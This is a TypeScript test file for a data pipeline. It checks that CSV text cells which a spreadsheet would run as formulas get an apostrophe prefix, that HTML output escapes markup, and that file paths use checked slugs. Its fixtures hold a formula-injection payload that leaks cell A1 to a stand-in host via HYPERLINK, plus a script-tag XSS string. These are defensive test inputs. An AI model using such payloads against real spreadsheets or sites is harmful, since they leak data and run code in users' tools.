/**
 * Safe outputs. CSV: text cells a spreadsheet would run as a formula (= + - @, tab, CR) carry a
 * leading apostrophe, reversibly, while numbers — negative ones included — are never touched and
 * Arrow keeps the exact text (docs/csv-safety.md). Site: every value from the data is escaped.
 * File names: every path of the package is made of checked slugs.
 */
import { tableFromIPC } from 'apache-arrow';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { build } from '../../pipeline/build.js';
import { memoryFS } from '../../pipeline/core/fs.js';
import { columnType } from '../../pipeline/model/columnTypes.js';
import { toCsv } from '../../pipeline/publish/csv.js';
import { csvSafeCell, restoreCsvCell } from '../../pipeline/model/csvSafety.js';
import { TABLES, columns, type TableSpec } from '../../pipeline/model/schemas.js';
import { A, applyEdits, asRecord, baseFiles } from './fixtures.js';

const TRIGGER = /^[=+\-@\t\r]/;

describe('csvSafeCell', () => {
  it.each([
    ['=HYPERLINK("http://x","y")', `'=HYPERLINK("http://x","y")`],
    ['+7% on the year', "'+7% on the year"],
    ['-3%', "'-3%"],
    ['@tradewatch', "'@tradewatch"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    ["'=already", "''=already"],
    ["'quoted", "'quoted"],
    ['plain words', 'plain words'],
    ['', ''],
    ['a=b', 'a=b'],
  ])('text %j is written %j', (value, cell) => {
    expect(csvSafeCell(value, 'string')).toBe(cell);
    expect(csvSafeCell(value, 'list')).toBe(cell);
    expect(restoreCsvCell(cell)).toBe(value);
  });
  it('leaves number, integer, boolean and date columns alone: -12.5 stays -12.5', () => {
    expect(csvSafeCell('-12.5', 'number')).toBe('-12.5');
    expect(csvSafeCell('-1', 'integer')).toBe('-1');
    expect(csvSafeCell('true', 'boolean')).toBe('true');
    expect(csvSafeCell('2024-01-01', 'date')).toBe('2024-01-01');
  });
  it('never leaves a text cell starting with a trigger, and restoring gives the value back (any string)', () => {
    const text = fc.oneof(
      fc.string(),
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''=").chain((p) => fc.string().map((s) => p + s)),
    );
    fc.assert(
      fc.property(text, (s) => {
        const cell = csvSafeCell(s, 'string');
        expect(TRIGGER.test(cell)).toBe(false);
        expect(restoreCsvCell(cell)).toBe(s);
      }),
      { seed: 406, numRuns: 500 },
    );
  });
  it('toCsv escapes the text column and not the numeric one', () => {
    const spec: TableSpec = {
      name: 'mentions',
      title: 't',
      kind: 'data',
      primaryKey: ['t'],
      sortBy: ['t'],
      foreignKeys: [],
      schema: {
        type: 'object',
        properties: { t: { type: 'string' }, v: { type: ['number', 'null'] }, l: { type: 'array', items: { type: 'string' } } },
      },
    };
    const csv = new TextDecoder().decode(
      toCsv(spec, [
        { t: '-3%', v: -3, l: ['@a', 'b'] },
        { t: '=1+1', v: -0.5, l: [] },
      ]),
    );
    expect(csv).toBe("t,v,l\n'-3%,-3,'@a|b\n'=1+1,-0.5,\n");
  });
});

describe('the built package', () => {
  // The base has "-3%" (a mention, value -3) and "Engines & <script>…" in a text; add a note and an
  // attribution a spreadsheet would run.
  const files = applyEdits(baseFiles(), [
    {
      file: `raw/annotations/${A}.yaml`,
      replace: '    period: "2023"\n    attributed_to: customs records compiled by the Trade Watch Institute',
      with: '    period: "2023"\n    attributed_to: "@tradewatch, customs records"\n    note: \'=HYPERLINK("http://example.invalid/?leak="&A1,"click")\'',
    },
  ]);
  const tree = build(memoryFS(asRecord(files)));
  const csv = (table: string) =>
    Papa.parse<Record<string, string>>(new TextDecoder().decode(tree.get(`data/${table}.csv`)!), { header: true, skipEmptyLines: true })
      .data;

  it('no text cell of any CSV starts with = + - @ tab or CR; every number cell is a plain number', () => {
    let checked = 0;
    for (const spec of TABLES) {
      for (const row of csv(spec.name)) {
        for (const col of columns(spec.schema)) {
          const cell = row[col]!;
          const kind = columnType(spec.schema.properties![col]!).kind;
          if (kind === 'string' || kind === 'list') expect(TRIGGER.test(cell), `${spec.name}.${col}: ${cell}`).toBe(false);
          if ((kind === 'number' || kind === 'integer') && cell !== '') expect(cell, `${spec.name}.${col}`).toMatch(/^-?\d+(\.\d+)?$/);
          checked++;
        }
      }
    }
    expect(checked).toBeGreaterThan(100);
  });

  it('escapes the attribution, the note and the mention "-3%", and keeps its value -3 a number', () => {
    const obs = csv('observations').find((r) => r.note!.includes('HYPERLINK'))!;
    expect(obs.attributed_to).toBe("'@tradewatch, customs records");
    expect(obs.note).toBe(`'=HYPERLINK("http://example.invalid/?leak="&A1,"click")`);
    const m = csv('mentions').find((r) => r.text === "'-3%")!;
    expect([m.value, m.value_low, m.value_high]).toEqual(['-3', '-3', '-3']);
    expect(restoreCsvCell(m.text!)).toBe('-3%');
  });

  it('Arrow keeps the exact text', () => {
    const mentions = tableFromIPC(tree.get('data/mentions.arrow')!)
      .toArray()
      .map((r) => r.toJSON());
    expect(mentions.find((r) => r.value === -3)).toMatchObject({ text: '-3%' });
  });

  it('the site shows the quote with <script> and & as text, never as markup', () => {
    const pages = [...tree].filter(([p]) => p.endsWith('.html')).map(([p, b]) => [p, new TextDecoder().decode(b)] as const);
    expect(pages.length).toBeGreaterThan(5);
    for (const [path, html] of pages) {
      expect(html, path).not.toContain('<script>alert(');
      expect(html, path).not.toMatch(/Engines & </);
    }
    const source = pages.find(([p]) => p === `site/sources/${A}.html`)![1];
    expect(source).toContain('Engines &amp; &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; Exports');
  });

  it('names every file of the package with checked slugs only', () => {
    for (const path of tree.keys()) expect(path).toMatch(/^(?:[a-z0-9][a-z0-9_-]*\/)*(?:\.?[a-z0-9][a-z0-9_.-]*|[A-Z0-9]+(?:\.[a-z]+)?)$/);
  });
});
